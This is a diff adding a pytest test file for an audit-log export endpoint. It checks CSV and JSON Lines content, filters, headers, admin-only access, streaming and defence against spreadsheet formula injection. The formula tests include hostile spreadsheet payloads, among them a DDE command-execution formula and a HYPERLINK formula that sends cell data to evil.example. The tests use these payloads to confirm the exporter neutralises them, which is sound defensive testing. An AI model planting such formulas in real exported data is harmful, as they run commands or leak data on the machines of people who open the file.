@@ -1,0 +1,323 @@
+"""The audit log as a file: whole, in order, of any length, and harmless in a spreadsheet."""
+
+import csv
+import io
+import json
+import re
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from typing import Any
+from urllib.parse import urlencode
+
+import pytest
+from conftest import NewApp
+from given import Given, Sql
+from people import Answer, Person, faults, in_process, refused
+from pydantic import SecretStr
+from walks import walk
+from webtest import TestApp
+
+from registry_api.dao.audit_export import AuditExport
+from registry_api.models import AuditEntry
+from registry_api.resources.spreadsheet import harmless
+
+COLUMNS = AuditExport.columns
+
+
+def exported(who: Person, **query: object) -> Answer:
+    answer = who.get("/audit/export", **query)
+    assert answer.status == 200, answer.text
+    return answer
+
+
+def lines(who: Person, **query: object) -> list[dict[str, Any]]:
+    """Return the entries of an export as JSON Lines."""
+    body = exported(who, format="jsonl", **query).body
+    assert body.endswith(b"\n") or not body
+    return [json.loads(line) for line in body.split(b"\n")[:-1]]
+
+
+def table(text: str) -> list[dict[str, str]]:
+    """Return the rows of a CSV file, once its form is seen to be that of RFC 4180 with a byte order mark."""
+    assert text.startswith("\ufeff")
+    assert text.endswith("\r\n")
+    header, *rows = csv.reader(io.StringIO(text[1:], newline=""), strict=True)
+    assert tuple(header) == COLUMNS
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def rows(who: Person, **query: object) -> list[dict[str, str]]:
+    return table(exported(who, **query).text)
+
+
+def story(ana: Person, mia: Person, given: Given) -> dict[str, Any]:
+    """Have a registration made, edited, decided on and deleted."""
+    made = given.registration(by=ana, endpoint_name="Wetter")
+    there = f"/registrations/{made['registration_id']}"
+    assert (
+        ana.patch(there, {"endpoint_name": "Weather", "available_tools": ["a"]}, {"X-Request-ID": "r1"}).status == 200
+    )
+    assert mia.set_status(made, "Rejected", reason="No, because…").status == 200
+    assert mia.delete(there).status == 204
+    return made
+
+
+# ---------------------------------------------------------------------------------------------------------- content
+
+
+def test_json_lines_are_the_entries_of_the_log_oldest_first(ana: Person, mia: Person, given: Given) -> None:
+    story(ana, mia, given)
+    given.registration(status="Approved")
+    found = lines(mia)
+    assert found == walk(mia, "/audit")[::-1]
+    assert [entry["action"] for entry in found] == ["Created", "Updated", "Rejected", "Deleted", "Created", "Approved"]
+    for entry in found:
+        AuditEntry.model_validate(entry)
+
+
+def test_csv_has_a_row_per_entry_with_all_that_a_reviewer_asks_for(ana: Person, mia: Person, given: Given) -> None:
+    made = story(ana, mia, given)
+    entries = lines(mia)
+    found = rows(mia)
+    assert [row["log_id"] for row in found] == [entry["log_id"] for entry in entries]
+    assert found[1] == {
+        "timestamp": entries[1]["timestamp"],
+        "action": "Updated",
+        "registration_id": made["registration_id"],
+        "endpoint_name": "Weather",
+        "endpoint_url": made["endpoint_url"],
+        "user_id": ana.user_id,
+        "display_name": "Ana Example",
+        "email": "ana@example.com",
+        "previous_status": "Pending",
+        "new_status": "Pending",
+        "reason": "",
+        "changes": found[1]["changes"],
+        "request_id": "r1",
+        "log_id": entries[1]["log_id"],
+    }
+    assert json.loads(found[1]["changes"]) == entries[1]["metadata"]["changes"]
+    assert (found[2]["display_name"], found[2]["reason"]) == ("Mia Example", "No, because…")
+    assert (found[3]["action"], found[3]["previous_status"], found[3]["new_status"]) == ("Deleted", "Rejected", "")
+
+
+def test_every_row_names_its_registration_living_or_deleted(ana: Person, mia: Person, given: Given) -> None:
+    story(ana, mia, given)
+    given.registration(endpoint_name="Tickets", status="Approved")
+    assert [row["endpoint_name"] for row in rows(mia)] == ["Weather"] * 4 + ["Tickets"] * 2
+
+
+def test_an_empty_log_is_a_file_all_the_same(mia: Person) -> None:
+    assert rows(mia) == []
+    assert lines(mia) == []
+
+
+def test_nothing_found_is_a_file_all_the_same(mia: Person, given: Given) -> None:
+    given.registration()
+    assert rows(mia, action="Deleted") == []
+    assert lines(mia, action="Deleted") == []
+
+
+@pytest.mark.parametrize("kind", ["csv", "jsonl"])
+def test_the_filters_are_those_of_the_log(ana: Person, mia: Person, given: Given, kind: str) -> None:
+    made = story(ana, mia, given)
+    given.registration(status="Approved")
+    times = [entry["timestamp"] for entry in lines(mia)]
+    for query in (
+        {"registration_id": made["registration_id"]},
+        {"user_id": mia.user_id},
+        {"action": "deleted,UPDATED"},
+        {"action": "Created", "user_id": ana.user_id},
+        {"since": times[1], "until": times[4]},
+        {"since": times[2]},
+        {"until": times[0]},
+        {"action": ""},
+    ):
+        expected = [entry["log_id"] for entry in walk(mia, "/audit", **query)][::-1]
+        found: list[Any] = rows(mia, **query) if kind == "csv" else lines(mia, **query)
+        assert [entry["log_id"] for entry in found] == expected
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        *(("format", "xlsx"), ("format", "CSV"), ("limit", "5"), ("cursor", "x"), ("since", "yesterday")),
+        *(("user_id", "me"), ("action", "Pending"), ("status", "Approved")),
+    ],
+)
+def test_a_query_that_cannot_be_read_is_not_acceptable(mia: Person, name: str, value: str) -> None:
+    assert faults(mia.get("/audit/export", **{name: value})).keys() == {name}
+
+
+def test_entries_of_one_moment_come_each_once(mia: Person, given: Given) -> None:
+    given.entries(450, apart="0 s")
+    found = [entry["log_id"] for entry in lines(mia)]
+    assert len(found) == len(set(found)) == 450
+    assert found == sorted(found)
+
+
+def test_an_entry_on_several_lines_becomes_one(mia: Person, given: Given) -> None:
+    """A hand that brought in older entries may have set them nicely."""
+    given.entries(3, metadata='{\r\n  "request_id": "x",\n  "reason": "two\\nlines"\n}')
+    assert [entry["metadata"] for entry in lines(mia)] == [{"request_id": "x", "reason": "two\nlines"}] * 3
+
+
+# ---------------------------------------------------------------------------------------------------------- headers
+
+
+@pytest.mark.parametrize(
+    ("kind", "media_type"), [("csv", "text/csv; charset=utf-8; header=present"), ("jsonl", "application/jsonl")]
+)
+def test_an_export_is_a_file_to_be_saved_and_not_kept_on_the_way(mia: Person, kind: str, media_type: str) -> None:
+    for answer in (exported(mia, format=kind), mia.head(f"/audit/export?format={kind}")):
+        assert (answer.status, answer.headers["Content-Type"]) == (200, media_type)
+        assert answer.headers["Cache-Control"] == "no-store"
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
+        named = re.fullmatch(
+            rf'attachment; filename="registry-audit-(\d{{8}}T\d{{6}}Z)\.{kind}"', answer.headers["Content-Disposition"]
+        )
+        assert named
+        at = datetime.strptime(named[1], "%Y%m%dT%H%M%S%z")
+        assert abs(datetime.now(UTC) - at) < timedelta(minutes=1)
+    assert answer.body == b""
+
+
+def test_csv_is_what_comes_unless_asked_otherwise(mia: Person) -> None:
+    assert exported(mia).headers["Content-Type"].startswith("text/csv")
+
+
+def test_a_head_is_refused_as_a_get_is(ana: Person, mia: Person) -> None:
+    assert ana.head("/audit/export").status == 403
+    assert mia.head("/audit/export?format=xlsx").status == 422
+
+
+def test_only_administrators_export(ana: Person, anyone: Person, given: Given) -> None:
+    made = given.registration(by=ana)
+    refused(ana.get("/audit/export"), 403, "FORBIDDEN")
+    refused(ana.get("/audit/export", registration_id=made["registration_id"]), 403, "FORBIDDEN")
+    refused(anyone.get("/audit/export"), 401, "TOKEN_MISSING")
+
+
+def test_where_a_broken_transfer_could_not_be_told_there_is_none(new_app: NewApp, mia: Person) -> None:
+    old = mia.at(in_process(new_app(), SERVER_PROTOCOL="HTTP/1.0"))
+    refused(old.get("/audit/export"), 505, "REFUSED")
+    assert old.get("/audit").status == 200
+
+
+# --------------------------------------------------------------------------------------------------------- formulas
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+@pytest.mark.parametrize("behind", ["", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2028", "\u202e"])
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe(begins: str, behind: str) -> None:
+    text = f"{behind}{begins}HYPERLINK(1)"
+    if not behind or begins.isprintable():
+        assert harmless(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text", ["", "a=1", "1-2", "ana@example.com", "'=1", '"=1"', "Ünïcode 天気 ☂", "a\n=1", "{}", " a"]
+)
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    assert harmless(text) == text
+    assert harmless(None) == ""
+
+
+@pytest.mark.parametrize("letter", ["x", "é", "天", "😀", '"'])
+def test_what_is_too_long_for_a_cell_is_cut_and_says_so(letter: str) -> None:
+    size = len(letter.encode("utf-16-le")) // 2
+    whole = letter * (32_767 // size)
+    assert harmless(whole) == whole
+    cut = harmless(whole + letter)
+    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
+    assert cut.startswith(letter * 16_000)
+    assert cut.endswith("(cut: longer than a cell can be)")
+    assert harmless("=" + whole).startswith(f"'={letter}")
+
+
+NASTY = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+    '","=1+1","',
+    ";=1+1;",
+    'a "quoted" word, a comma\r\nand a second line',
+    "-2+3",
+    "@SUM(1)",
+    "天気 ☂ é 😀 \u2028 \u0085 x",
+]
+
+
+@pytest.mark.parametrize("words", NASTY)
+def test_cells_come_back_exactly_but_for_the_apostrophe(ana: Person, mia: Person, given: Given, words: str) -> None:
+    who = ana.saying(name=words)
+    made = given.registration(by=who, endpoint_name=words, description=words)
+    assert mia.set_status(made, "Rejected", reason=words).status == 200
+    expected = f"'{words}" if words[0] in "=-@" else words
+    text = exported(mia).text
+    created, rejected = table(text)
+    assert (created["endpoint_name"], created["display_name"]) == (expected, expected)
+    assert rejected["reason"] == expected
+    # All cells are in quotes, so that no separator of theirs begins another; and none begins as formulas do.
+    assert re.fullmatch(r'\ufeff(?:(?:"(?:[^"]|"")*",?)+\r\n)+', text)
+    assert not re.search(r'(^|[,\n])"\s*[=+\-@]', text)
+    assert lines(mia)[1]["metadata"]["reason"] == words
+
+
+# ---------------------------------------------------------------------------------------------------------- streams
+
+
+def pieces(app: Any, who: Person, **query: object) -> Iterator[bytes]:
+    """Receive an export piece by piece, as a WSGI server does."""
+    request = TestApp.RequestClass.blank(f"/audit/export?{urlencode(query)}", environ={"SERVER_PROTOCOL": "HTTP/1.1"})
+    request.headers["Authorization"] = f"Bearer {who.token}"
+    status, _, stream = request.call_application(app)
+    assert status == "200 OK"
+    return iter(stream)
+
+
+def test_a_connection_is_held_while_a_page_is_read_and_not_while_it_is_received(
+    new_app: NewApp, mia: Person, given: Given
+) -> None:
+    given.entries(1000)
+    app = new_app(db_pool_min_size=1, db_pool_max_size=1, db_pool_timeout=0.5)
+    here = mia.at(in_process(app))
+    stream = pieces(app, mia, format="jsonl")
+    assert next(stream)
+    assert here.get("/audit", limit=1).status == 200
+    assert next(stream)
+    stream.close()  # type: ignore[attr-defined]
+    assert here.get("/audit", limit=1).status == 200
+
+
+def test_what_comes_meanwhile_is_not_in_it(new_app: NewApp, mia: Person, given: Given, sql: Sql) -> None:
+    given.entries(1000)
+    stream = pieces(new_app(), mia, format="jsonl")
+    text = next(stream)
+    given.registrations("abc")
+    given.entries(300)
+    assert len((text + b"".join(stream)).splitlines()) == 1000
+    assert sql("SELECT count(*) FROM audit_log") == [(1303,)]
+    assert len(lines(mia)) == 1303
+
+
+def test_a_page_has_so_many_bytes_whatever_the_entries_hold(new_app: NewApp, mia: Person, given: Given) -> None:
+    large = json.dumps({"request_id": "x", "changes": {"available_tools": {"old": ["a" * 250_000], "new": []}}})
+    given.entries(30, metadata=large)
+    given.entries(500)
+    sizes = [len(piece) for piece in pieces(new_app(), mia, format="jsonl")]
+    assert max(sizes) < 1024 * 1024 + 2 * len(large)
+    assert sum(sizes) > 30 * len(large)
+    assert len(lines(mia)) == 530
+    assert max(len(row["changes"]) for row in rows(mia)) == 32_767
+
+
+def test_trouble_at_the_beginning_is_a_problem(new_app: NewApp, mia: Person, sql: Sql) -> None:
+    assert mia.get("/audit").status == 200  # so that the caller is known
+    sql("ALTER TABLE audit_log RENAME TO gone")
+    try:
+        for kind in ("csv", "jsonl"):
+            refused(mia.get("/audit/export", format=kind), 500, "INTERNAL_ERROR")
+    finally:
+        sql("ALTER TABLE gone RENAME TO audit_log")
+    cut_off = mia.at(in_process(new_app(database_url=SecretStr("host=127.0.0.1 port=1 user=x"), db_pool_timeout=0.1)))
+    refused(cut_off.get("/audit/export"), 503, "UNAVAILABLE")
